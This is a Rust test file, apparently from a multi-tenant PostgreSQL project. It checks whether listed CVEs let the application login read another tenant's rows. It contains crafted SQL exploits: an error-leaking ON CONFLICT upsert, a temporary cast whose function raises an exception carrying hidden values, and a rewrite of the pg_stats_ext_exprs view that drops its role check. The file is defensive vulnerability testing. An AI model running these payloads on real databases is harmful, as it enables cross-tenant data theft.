//! What the table says of this server's release, tried on the sound database as the application's login: a hole that is open here
//! shows another tenant's row, and one that is closed does not.

use bastide_catalog::cves::{self, Opens};
use bastide_testkit::{Database, Server};

use super::{PASSWORD, sound};

/// Tenant 2's context. The notes are tenant 1's, and say `note`.
const CONTEXT: &str = "SET bastide.tenant = '00000000-0000-4000-8000-000000000002'";

/// Both show what they saw in an error, whether or not there is one without them.
const CRAFTED: &[(&str, &str)] = &[
    (
        "CVE-2026-120154",
        "INSERT INTO notes VALUES (1, '00000000-0000-4000-8000-000000000002', 'mine')
         ON CONFLICT (id) DO UPDATE SET body = 'mine' WHERE notes.body::int > 0",
    ),
    (
        "CVE-2026-116327",
        "CREATE TYPE pg_temp.seen AS (tag text);
         CREATE FUNCTION pg_temp.see(text) RETURNS pg_temp.seen LANGUAGE plpgsql IMMUTABLE COST 0.000001 AS
             $$ BEGIN RAISE EXCEPTION 'saw \"%\"', $1; END $$;
         CREATE CAST (text AS pg_temp.seen) WITH FUNCTION pg_temp.see(text);
         SELECT id FROM notes WHERE tags::pg_temp.seen[] IS NOT NULL",
    ),
];

async fn version(db: &Database) -> u32 {
    db.query_one_text("SHOW server_version_num").await.parse().unwrap()
}

/// What the server says to `sql` as the application's login, in tenant 2's context.
async fn said(db: &Database, sql: &str) -> String {
    let client = db.client_as("bastide_app", PASSWORD).await;
    client.batch_execute(CONTEXT).await.unwrap();
    let refused = client.batch_execute(sql).await.err();
    refused.and_then(|error| Some(error.as_db_error()?.message().to_owned())).unwrap_or_default()
}

async fn tagged() -> (Server, Database) {
    let (server, db) = sound().await;
    db.execute("ALTER TABLE notes ADD tags text[]; UPDATE ONLY notes SET tags = ARRAY[body]; ANALYZE notes")
        .await;
    (server, db)
}

#[tokio::test]
async fn sql_written_for_a_hole_sees_hidden_rows_where_the_table_says_so() {
    let (_server, db) = tagged().await;
    let version = version(&db).await;
    let listed = cves::CVES.iter().filter(|cve| cve.opens == Opens::ToCraftedSql).map(|cve| cve.id);
    assert_eq!(listed.count(), CRAFTED.len());
    for (id, sql) in CRAFTED {
        let open = cves::affecting(version).any(|cve| cve.id == *id);
        let said = said(&db, sql).await;
        assert_eq!(said.contains("\"note\""), open, "{id} on {}: {said}", cves::name(version));
    }
}

#[tokio::test]
async fn a_view_of_statistics_of_old_shows_hidden_rows_whatever_the_release() {
    let (_server, db) = tagged().await;
    let shown = "SELECT string_agg(e.most_common_vals::text, ' ') FROM pg_stats_ext_exprs e";
    db.execute("CREATE STATISTICS bodies ON (upper(body)) FROM notes; ANALYZE notes").await;
    let seen = async || {
        let row = db.client_as("bastide_app", PASSWORD).await.query_one(shown, &[]).await;
        row.unwrap().get::<_, Option<String>>(0)
    };
    assert_eq!(seen().await, None);
    db.execute(
        r"DO $$ BEGIN EXECUTE 'CREATE OR REPLACE VIEW pg_catalog.pg_stats_ext_exprs WITH (security_barrier) AS '
              || regexp_replace(pg_get_viewdef('pg_stats_ext_exprs'::regclass), '\s+WHERE \(?pg_has_role.*$', ''); END $$",
    )
    .await;
    assert!(seen().await.is_some_and(|seen| seen.contains("NOTE")));
}
